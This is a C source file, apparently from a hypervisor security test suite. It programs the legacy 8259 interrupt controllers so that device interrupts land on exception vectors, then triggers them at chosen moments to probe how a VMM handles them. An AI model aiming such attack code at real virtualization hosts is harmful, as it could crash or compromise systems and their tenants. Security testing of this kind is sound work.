/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attacks of pc-attack.elf on a dedicated CPU: the 8259s are its own, and it gives them vectors of
 * exceptions.
 *
 *	vectors MASTER SLAVE MODE IRQ WHERE TARGET
 *
 * MASTER, SLAVE: ICW2; MODE: ICW4; IRQ: of which device; WHERE: where the interrupt comes, see enum
 * where; TARGET: what the payload writes.
 */
#include "attack.h"

enum where { IN_IDLE, IN_RING_1, AT_WORK };

#define HZ 2000
/* Time stamps for which an interrupt is waited for: twenty milliseconds. */
#define PATIENCE_MS 20

#define KEYBOARD_DATA 0x60
#define KEYBOARD_COMMAND 0x64
#define KEYBOARD_FULL 0x01
#define KEYBOARD_SET_MODE 0x60
#define KEYBOARD_FILL 0xd2
#define MOUSE_FILL 0xd3
#define BOTH_INTERRUPT 0x03
#define UART 0x3f8
#define UART_INTERRUPTS (UART + 1)
#define UART_MODEM (UART + 4)
#define UART_OUT2 0x08
#define UART_ON_EMPTY 0x02
#define FLOPPY 0x3f2
#define FLOPPY_RESET 0x00
#define FLOPPY_ON 0x0c
#define CMOS_INDEX 0x70
#define CMOS_DATA 0x71
#define RTC_A 0x0a
#define RTC_B 0x0b
#define RTC_C 0x0c
#define RTC_1024_HZ 0x26
#define RTC_PERIODIC 0x42

static uint8_t cmos_read(uint8_t index)
{
	port_out(CMOS_INDEX, index);
	return port_in(CMOS_DATA);
}

static void cmos_write(uint8_t index, uint8_t value)
{
	port_out(CMOS_INDEX, index);
	port_out(CMOS_DATA, value);
}

static void keyboard_fill(uint8_t command)
{
	while (port_in(KEYBOARD_COMMAND) & KEYBOARD_FULL)
		port_in(KEYBOARD_DATA);
	port_out(KEYBOARD_COMMAND, KEYBOARD_SET_MODE);
	port_out(KEYBOARD_DATA, BOTH_INTERRUPT);
	port_out(KEYBOARD_COMMAND, command);
	port_out(KEYBOARD_DATA, 0x55);
}

/* Has the device of a line ask for an interrupt, soon or at once. */
static void device_start(uint32_t irq)
{
	if (irq == 0) {
		pit_start(HZ);
	} else if (irq == 1 || irq == 12) {
		keyboard_fill(irq == 1 ? KEYBOARD_FILL : MOUSE_FILL);
	} else if (irq == 4) {
		port_out(UART_MODEM, UART_OUT2);
		port_out(UART_INTERRUPTS, UART_ON_EMPTY);
	} else if (irq == 6) {
		port_out(FLOPPY, FLOPPY_RESET);
		port_out(FLOPPY, FLOPPY_ON);
	} else if (irq == 8) {
		cmos_write(RTC_A, RTC_1024_HZ);
		cmos_write(RTC_B, RTC_PERIODIC);
		cmos_read(RTC_C);
	}
}

static void devices_stop(void)
{
	pit_stop();
	port_out(UART_INTERRUPTS, 0);
	cmos_write(RTC_B, 0x02);
}

/* What comes as an exception goes on behind. */
static void spin(void)
{
	uint64_t end = time_stamp() + (uint64_t)PATIENCE_MS * time_stamps_per_ms();

	TRAP_PROVOKE("sti\n2:\trdtsc\n\tsubl %0, %%eax\n\tsbbl %1, %%edx\n\tjb 2b",
		     : : "r"((uint32_t)end), "r"((uint32_t)(end >> 32))
		     : "eax", "edx", "memory", "cc");
	irq_disable();
}

static void halt(void)
{
	TRAP_PROVOKE("sti\n\thlt", : : : "memory");
	irq_disable();
}

/* STI lets interrupts in behind the next instruction only, and that is the VMM's work. */
static void work(uint32_t irq)
{
	irq_await((uint16_t)(1 << irq));
	TRAP_PROVOKE("sti\n\tmovl %0, %%cr4", : : "r"(cr4_read() ^ CR4_PGE) : "memory");
	irq_disable();
}

static void attack_vectors(const uint32_t *arguments)
{
	uint32_t irq = arguments[3], where = arguments[4];

	payload_lay(arguments[5]);
	time_stamps_per_ms();
	/* The VMM believes to know the vectors, and so has points. */
	vectors_show();
	pit_stop();
	pic_program((uint8_t)arguments[0], (uint8_t)arguments[1], (uint8_t)arguments[2]);
	pic_unmask((uint16_t)(1 << irq));
	device_start(irq);
	if (where == IN_IDLE)
		halt();
	else if (where == IN_RING_1)
		spin();
	else
		work(irq);
	devices_stop();
	pic_init();
}

const struct attack attacks_vectors[] = { { "vectors", attack_vectors }, { 0 } };
